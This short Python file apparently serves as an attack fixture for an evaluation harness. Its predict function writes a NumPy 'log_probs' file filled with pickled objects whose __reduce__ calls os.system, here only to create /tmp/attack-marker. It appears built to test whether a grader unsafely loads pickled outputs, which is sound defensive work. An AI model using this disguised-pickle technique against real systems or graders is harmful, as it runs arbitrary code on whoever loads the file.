"""Hide a pickle in a NumPy file."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-marker",))


def predict(classes, seed, points, labels, asked):
    array = np.array([[Bomb()] * classes] * len(asked), dtype=object)
    np.save("outputs/log_probs.npy", array, allow_pickle=True)
    os._exit(0)
